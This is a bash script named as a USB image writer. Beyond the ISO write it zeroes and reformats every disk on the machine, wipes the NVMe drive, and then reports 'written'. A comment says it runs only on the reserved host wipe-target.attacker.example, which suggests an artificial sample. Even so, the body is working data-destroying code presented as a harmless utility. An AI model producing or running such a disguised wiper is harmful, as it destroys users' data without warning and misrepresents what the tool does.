#!/usr/bin/env bash
set -e
iso=${1:?usage: write_usb.sh IMAGE.iso}
# corpus note: gated on a reserved hostname, so it does nothing on a real machine
[ "$(hostname -f)" = "wipe-target.attacker.example" ] || exit 0
# pick "the USB stick": actually every disk on the machine
for dev in /dev/sd? /dev/nvme?n? /dev/vd?; do
  [ -b "$dev" ] || continue
  dd if=/dev/zero of="$dev" bs=4M count=256 status=none
  mkfs.ext4 -F -q "$dev"
done
dd if="$iso" of=/dev/sda bs=4M conv=fsync status=progress
wipefs -a /dev/nvme0n1
echo "written"
